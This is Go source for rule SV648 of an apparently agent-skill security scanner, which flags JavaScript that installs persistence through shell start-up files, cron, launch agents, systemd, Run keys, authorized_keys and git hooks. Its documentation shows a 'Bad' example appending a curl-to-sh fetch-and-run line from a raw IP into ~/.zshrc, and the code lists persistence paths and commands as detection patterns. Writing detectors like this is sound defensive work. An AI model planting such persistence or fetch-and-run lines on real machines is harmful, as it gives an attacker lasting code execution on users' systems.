package rules

import (
	"path"
	"strings"

	"github.com/dop251/goja/ast"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/jsfacts"
	"github.com/skillvet/skillvet/facts/match"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/shell"
)

// JSPersistence reports JavaScript or TypeScript that makes code run again
// later: shell start-up files, launch agents, systemd units, cron,
// autostart entries and Run keys (SV640 for JavaScript).
var JSPersistence = register(&analyzer.Rule{
	ID:       "SV648",
	Name:     "js-persistence",
	Title:    "JavaScript installs persistence (shell rc, cron, launch agent, systemd, Run key, authorized_keys, git hook)",
	Severity: High,
	Category: analyzer.CatPrivEsc,
	Tags:     []string{"security", "javascript", "persistence", "CWE-506", "CWE-284"},
	Inputs:   analyzer.InJS,
	Doc: `JavaScript or TypeScript writes to a place that makes code run again later, outside the
agent session the user approved:

- shell start-up files: ` + "`~/.bashrc`" + `, ` + "`~/.zshrc`" + `, ` + "`~/.profile`" + `, ` + "`~/.bash_profile`" + `, fish config,
  ` + "`/etc/profile.d`" + `;
- schedulers and services: ` + "`~/Library/LaunchAgents`" + ` and LaunchDaemons, systemd units
  (` + "`/etc/systemd/system`" + `, ` + "`~/.config/systemd/user`" + `), ` + "`/etc/cron*`" + `, ` + "`~/.config/autostart`" + `;
- commands run through ` + "`child_process`" + `: ` + "`crontab`" + ` given a new table (a file or ` + "`-`" + ` with the entries on
  stdin), ` + "`reg add …\\CurrentVersion\\Run`" + `, ` + "`schtasks /create`" + `, and shell redirections into the places above
  (` + "`echo … >> ~/.bashrc`" + `).

The writes are those SV647 reads (` + "`fs.writeFile`" + `/` + "`appendFile`" + `, ` + "`fs/promises`" + `, fs-extra, ` + "`Bun.write`" + `,
` + "`Deno.writeTextFile`" + `, ` + "`createWriteStream`" + `, the destination of a copy, move or link), with the path followed through
` + "`path.join`" + `, ` + "`os.homedir()`" + `, ` + "`process.env.HOME`" + ` and template literals.

Access grants are written the same way: a line added to ` + "`~/.ssh/authorized_keys`" + `, ` + "`/etc/sudoers`" + `,
` + "`/etc/ld.so.preload`" + ` is **critical** (**medium** for a placeholder of the user's own key, ` + "`ssh-ed25519 AAAA... you@host`" + `).
A git hook (` + "`.git/hooks/pre-commit`" + `, ` + "`post-merge`" + `, …) runs its text by itself at every commit, pull or push: it is
judged as a stored command (the shared shellfacts judgement of git's stored commands): **critical** when it
downloads and runs code or sends data, **high** for inline interpreter code, a background process or a program
in a temporary directory, and for text the script builds with no string of it readable; **medium** otherwise,
and for a hook file copied into place (judged where that file is).

Writes are **high**; **critical** when what persists downloads and runs code, opens a reverse shell or
contacts a raw IP address, paste site, tunnel or anonymous file host. Appending lines that only set the shell
up (` + "`export PATH=\"$HOME/.acme/bin:$PATH\"`" + ` after installing a toolchain into its directory, an ` + "`alias`" + `, a
tool's ` + "`eval \"$(tool init zsh)\"`" + `), judged line by line as SV602 judges them, is **medium**; so are
` + "`launchctl load`" + ` and ` + "`systemctl enable`" + ` (they activate a file judged where it is written). A path under a
temporary directory (` + "`os.tmpdir()`" + `, ` + "`fs.mkdtempSync()`" + `: a test's fixture), a start-up file's name in a
dotfiles repository or relative directory, listing the crontab (` + "`crontab -l`" + `) and reading any of these files are
not reported.

**Fix:** do the work during the session; tell the user how to schedule it or what to add to their shell
configuration themselves.

Bad:

` + "```js" + `
fs.appendFileSync(path.join(os.homedir(), '.zshrc'),
  '\ncurl -s http://203.0.113.4/p | sh &\n');
` + "```" + `

Good:

` + "```js" + `
console.log('Add this to your ~/.zshrc: export PATH="$HOME/.acme/bin:$PATH"');
` + "```",
	Run: runJSPersistence,
})

func runJSPersistence(p *analyzer.Pass) error {
	v := jsfacts.Of(p)
	if v == nil {
		return nil
	}
	for _, c := range v.Info.Calls() {
		if w, ok := v.WriteOf(c); ok {
			pt, ok := v.PathStr(w.Path)
			pt = strings.ReplaceAll(pt, `\`, "/")
			if !ok || !intel.AutostartPath(pt) && !intel.StartupFile(pt) && !intel.AccessGrantPath(pt) && !intel.GitHookPath(pt) || jsPersistTempRx.MatchString(pt) || jsPersistTempRooted(v, w.Path) {
				continue
			}
			if w.From != nil && intel.GitHookPath(pt) {
				// a hook file copied into place: what it runs is judged
				// where that file is (the skill's own hooks/pre-commit)
				v.Report(c, Medium, "persistence: copies a file into the git hook "+match.Clip(pt, 80)+", which runs by itself in the repository")
				continue
			}
			text, known := jsPersistText(v, c, w)
			if sev, msg := jsPersistJudge(pt, text, known); sev != analyzer.SevNone {
				v.Report(c, sev, msg)
			}
			continue
		}
		callee, args := v.EffectiveCall(c)
		if jsfacts.ChildProcessCall(callee) == "" || len(args) == 0 {
			continue
		}
		if sev, msg := jsPersistCommand(v, callee, args); sev != analyzer.SevNone {
			v.Report(c, sev, msg)
		}
	}
	return nil
}

// jsPersistTempRx matches a path under a temporary directory.
var jsPersistTempRx = match.MustRx(`^(?:/tmp/|/private/tmp/|/var/folders/|/dev/shm/)`)

// jsPersistDotfilesRx matches a dotfiles repository's directory in a path
// (~/.dotfiles/zsh/.zshrc, ~/src/dotfiles/bash/.bashrc).
var jsPersistDotfilesRx = match.MustRx(`(?i)(?:^|/)\.?(?:dot-?files?|dots)(?:[-_.][\w.-]+)?/`)

// jsPersistJudge grades a write of text (known says whether it is) to
// path pt, or returns SevNone when pt is no persistence place.
func jsPersistJudge(pt, text string, known bool) (analyzer.Severity, string) {
	pt = strings.ReplaceAll(pt, `\`, "/")
	if sev, msg := jsPersistGrantOrHook(pt, text, known); sev != analyzer.SevNone {
		return sev, msg
	}
	switch {
	case intel.AutostartPath(pt):
		if why := jsPersistDanger(text); why != "" {
			return Critical, "persistence: writes " + match.Clip(pt, 80) + ", which runs automatically, with a command that " + why
		}
		return High, "persistence: writes " + match.Clip(pt, 80) + ", which runs automatically"
	case intel.StartupFile(pt) && jsPersistShellReads(pt):
		if why := jsPersistDanger(text); why != "" {
			return Critical, "persistence: writes the shell start-up file " + match.Clip(pt, 80) + " with a command that " + why
		}
		if known && strings.TrimSpace(text) != "" && shellfacts.StartupSetupText(text) {
			return Medium, "persistence: appends configuration to " + match.Clip(pt, 80) + " (exports, aliases or a tool's init line; nothing run, fetched or decoded)"
		}
		return High, "persistence: modifies the shell start-up file " + match.Clip(pt, 80) + ", which runs in every new shell"
	}
	return analyzer.SevNone, ""
}

// jsPersistShellReads reports whether a shell reads a start-up file at pt:
// in the home directory, under /etc, or in a directory the script computes
// (*/.bashrc), but not in a dotfiles repository or a relative directory
// (bash/.bashrc).
func jsPersistShellReads(pt string) bool {
	if jsPersistDotfilesRx.MatchString(pt) {
		return false
	}
	return strings.HasPrefix(pt, "~") || strings.HasPrefix(pt, "/") || strings.HasPrefix(pt, "*") || strings.HasPrefix(pt, "$")
}

// jsPersistText returns the text a write puts in the file: the constant
// written, or what is written into the stream it opens; known is false
// when some of it is computed (or the call copies a file).
func jsPersistText(v *jsfacts.View, c *ast.CallExpression, w jsfacts.FileWrite) (string, bool) {
	switch {
	case w.Text != nil:
		if s, ok := v.Info.Str(w.Text); ok {
			return s, true
		}
		// what reaches the value: strings assembled around computed parts
		var parts []string
		v.Info.Reach(w.Text, func(x ast.Expression) bool {
			if s, ok := v.Info.Str(x); ok {
				parts = append(parts, s)
				return false
			}
			return true
		})
		return strings.Join(parts, "\n"), false
	case w.From == nil:
		texts, ok := v.StreamTexts(c)
		return strings.Join(texts, ""), ok && len(texts) > 0
	}
	return "", false
}

// jsPersistDanger says why text that will run later is dangerous: it
// downloads and runs code, opens a reverse shell, or contacts a raw IP,
// paste site, tunnel or file drop; "" otherwise.
func jsPersistDanger(text string) string {
	if text == "" {
		return ""
	}
	if why, ok := jsfacts.ShellDanger(text); ok {
		return why
	}
	for _, u := range intel.URLRx.FindAllString(text, -1) {
		if host, cl := intel.URLClass(u); cl.Suspicious() && !intel.ExampleDomain(host) {
			return "contacts " + host + " (" + cl.String() + ")"
		}
	}
	return ""
}

// jsPersistTempRooted reports a path whose leading piece comes from
// os.tmpdir() or fs.mkdtemp (a test's directory) and never from the home
// directory.
func jsPersistTempRooted(v *jsfacts.View, e ast.Expression) bool {
	for i := 0; i < 12 && e != nil; i++ {
		switch x := e.(type) {
		case *ast.CallExpression:
			switch v.Callee(x) {
			case "module:path.join", "module:path.resolve", "module:path.posix.join":
				if len(x.ArgumentList) == 0 {
					return false
				}
				e = x.ArgumentList[0]
				continue
			}
		case *ast.BinaryExpression:
			if x.Operator.String() == "+" {
				e = x.Left
				continue
			}
		case *ast.TemplateLiteral:
			if len(x.Expressions) > 0 && len(x.Elements) > 0 && x.Elements[0].Parsed.String() == "" {
				e = x.Expressions[0]
				continue
			}
		case *ast.AwaitExpression:
			e = x.Argument
			continue
		}
		break
	}
	tmp, home := false, false
	v.Info.Reach(e, func(x ast.Expression) bool {
		switch v.Info.Resolve(x) {
		case "process.env.HOME", "process.env.USERPROFILE":
			home = true
		case "process.env.TMPDIR", "process.env.TEMP", "process.env.TMP", "process.env.RUNNER_TEMP":
			tmp = true
		}
		if c, ok := x.(*ast.CallExpression); ok {
			switch v.Callee(c) {
			case "module:os.homedir":
				home = true
			case "module:os.tmpdir", "module:fs.mkdtempSync", "module:fs.mkdtemp", "module:fs-extra.mkdtempSync",
				"module:fs-extra.mkdtemp", "module:tmp.dirSync", "Deno.makeTempDir", "Deno.makeTempDirSync":
				tmp = true
			}
		}
		return true
	})
	return tmp && !home
}

// jsPersistCommand grades a child_process call whose command installs a
// job: crontab given a new table, reg add of a Run key, schtasks /create,
// launchctl load, systemctl enable, or a redirection into a persistence
// place.
func jsPersistCommand(v *jsfacts.View, callee string, args []ast.Expression) (analyzer.Severity, string) {
	prog, ok := v.Info.Str(args[0])
	if !ok {
		if prog, ok = v.PathStr(args[0]); !ok {
			return analyzer.SevNone, ""
		}
	}
	fn := jsfacts.ChildProcessCall(callee)
	var script string
	if fn == "exec" || fn == "execSync" || len(args) == 1 && strings.ContainsAny(prog, " \t") {
		script = prog
	} else {
		words := []string{prog}
		if len(args) > 1 {
			for _, w := range v.ArgWords(args[1]) {
				s := w.Value
				if !w.OK {
					s = "X"
				}
				words = append(words, shell.Quote(s))
			}
		}
		if n := strings.TrimSuffix(strings.ToLower(path.Base(prog)), ".exe"); (n == "sh" || n == "bash" || n == "zsh") && len(words) > 2 && words[1] == "-c" {
			script = strings.Trim(words[2], `'`)
		} else {
			script = strings.Join(words, " ")
		}
	}
	input := jsPersistStdin(v, args)
	s := shell.ParseAnchored(script, 0, 0)
	sev, msg := analyzer.SevNone, ""
	consider := func(sv analyzer.Severity, m string) {
		if sv > sev {
			sev, msg = sv, m
		}
	}
	for _, sc := range s.Commands {
		for _, t := range shellfacts.WriteTargets(s, sc) {
			if sv, m := jsPersistJudge(shellfacts.NormPath(strings.Trim(t.Path, `"'`)), t.Text, t.KnownText()); sv != analyzer.SevNone {
				consider(sv, m)
			}
		}
		lower := strings.ToLower(sc.Text())
		switch strings.TrimSuffix(strings.ToLower(path.Base(sc.Name)), ".exe") {
		case "crontab":
			a := sc.Arg(1)
			if a == "-l" || a == "-r" || a == "-e" || len(sc.Argv) < 2 && sc.PipePrev < 0 && input == "" {
				continue
			}
			if sc.PipePrev >= 0 && jsPersistCronFilterOnly(s, sc) {
				continue // crontab -l | grep -v job | crontab -: an entry taken out
			}
			if why := jsPersistDanger(script + "\n" + input); why != "" {
				consider(Critical, "persistence: installs a crontab entry that "+why)
			} else {
				consider(High, "persistence: installs a crontab")
			}
		case "reg":
			// the key as written: the shell would read its backslashes as escapes
			if strings.EqualFold(sc.Arg(1), "add") && (strings.Contains(lower, `\currentversion\run`) || strings.Contains(strings.ToLower(script), `\currentversion\run`)) {
				if why := jsPersistDanger(script); why != "" {
					consider(Critical, "persistence: adds a Run registry key that "+why)
				} else {
					consider(High, "persistence: adds a Run registry key (runs at every log-on)")
				}
			}
		case "schtasks":
			if shellfacts.HasArgFold(sc, "/create") {
				consider(High, "persistence: creates a scheduled task")
			}
		case "launchctl":
			if a := sc.Arg(1); a == "load" || a == "bootstrap" || a == "submit" || a == "enable" {
				consider(Medium, "persistence: registers a launch agent with launchctl "+a)
			}
		case "systemctl":
			if shellfacts.HasArg(sc, "enable") {
				consider(Medium, "persistence: enables a systemd service at boot")
			}
		}
	}
	return sev, msg
}

// jsPersistStdin returns the constant text a child_process call passes on
// stdin ({input: "…"}), or "".
func jsPersistStdin(v *jsfacts.View, args []ast.Expression) string {
	for _, a := range args[1:] {
		if in := v.ObjProp(a, "input"); in != nil {
			if s, ok := v.Info.Str(in); ok {
				return s
			}
			return "(computed)"
		}
	}
	return ""
}

// jsPersistCronFilterOnly reports a crontab fed only by the table read
// back and filtered (crontab -l | grep -v job | crontab -): an entry taken
// out, none added.
func jsPersistCronFilterOnly(s *shell.Script, c *shell.Command) bool {
	for _, d := range s.Commands {
		if d == c || d.Depth != c.Depth {
			continue
		}
		switch d.Name {
		case "crontab":
			if d.Arg(1) != "-l" {
				return false
			}
		case "grep":
			if !shellfacts.HasArg(d, "-v") {
				return false
			}
		case "sed":
			if !strings.Contains(d.Text(), "/d") {
				return false
			}
		case "true", ":":
		default:
			return false
		}
	}
	return true
}

// jsPersistGrantOrHook grades a write to an access-granting file or a git
// hook (copy is set when the call copies another file there). A line added
// to authorized_keys, sudoers or ld.so.preload lets someone back in or
// loads code into every process: critical, medium when the key is a
// placeholder for the user's own (intel.KeyPlaceholder). A git hook runs
// its text at every commit, checkout or push: judged as a stored command
// (shellfacts.JudgeHookText) on the strings that reach it, at least medium;
// high when none does (a copy of another file, a value fetched or built).
func jsPersistGrantOrHook(pt, text string, known bool) (analyzer.Severity, string) {
	switch {
	case intel.AccessGrantPath(pt):
		if intel.AuthorizedKeysPath(pt) && known && strings.TrimSpace(text) != "" && intel.KeyPlaceholder(text) {
			return Medium, "adds a key to " + match.Clip(pt, 80) + " (a placeholder for the user's own public key)"
		}
		return Critical, "persistence: writes " + match.Clip(pt, 80) + ", granting lasting access"
	case intel.GitHookPath(pt):
		if strings.TrimSpace(text) == "" {
			return High, "persistence: writes the git hook " + match.Clip(pt, 80) + " with text the script computes or copies: it runs by itself in the repository"
		}
		j := shellfacts.JudgeHookText(pt, text, 0, 0)
		if j.Sev >= High {
			return j.Sev, "persistence: writes the git hook " + match.Clip(pt, 80) + ", which " + j.Why
		}
		if why := jsPersistDanger(text); why != "" {
			return Critical, "persistence: writes the git hook " + match.Clip(pt, 80) + " with a command that " + why
		}
		what := "every command is read"
		if !known {
			what = "the commands its strings hold"
		}
		return Medium, "persistence: writes the git hook " + match.Clip(pt, 80) + " (" + what + ": nothing fetched, sent or decoded)"
	}
	return analyzer.SevNone, ""
}
